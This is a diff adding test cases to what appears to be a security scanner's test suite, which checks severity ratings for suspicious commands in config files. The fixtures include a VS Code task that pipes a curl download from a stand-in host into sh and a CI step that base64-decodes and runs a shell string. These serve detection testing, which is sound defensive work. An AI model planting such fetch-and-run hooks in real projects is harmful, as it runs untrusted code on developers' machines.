@@ -212,6 +212,10 @@ def test_notebooks(text: str, least: Severity, most: Severity) -> None:
         ("Dockerfile", "RUN pip install -i http://192.0.2.1/simple foo", "MG0353", Severity.HIGH),
         ("x.desktop", "[Desktop Entry]\nExec=sh -c id\n", "MG0350", Severity.MEDIUM),
         ("x.url", "[InternetShortcut]\nURL=https://x.invalid\n", "MG0350", Severity.MEDIUM),
+        (".vscode/tasks.json", '{"tasks": [{"command": "curl http://x.invalid/z | sh"}]}', "MG0353", Severity.HIGH),
+        (".devcontainer/devcontainer.json", '{"postCreateCommand": "make"}', "MG0350", Severity.LOW),
+        (".circleci/config.yml", "jobs: {a: {steps: [run: 'echo aGk= | base64 -d | sh']}}", "MG0350", Severity.HIGH),
+        ("tox.ini", "[testenv]\ncommands = pytest\n", "MG0350", Severity.LOW),
     ],
 )
 def test_scripts(name: str, text: str, rule: str, expected: Severity) -> None:
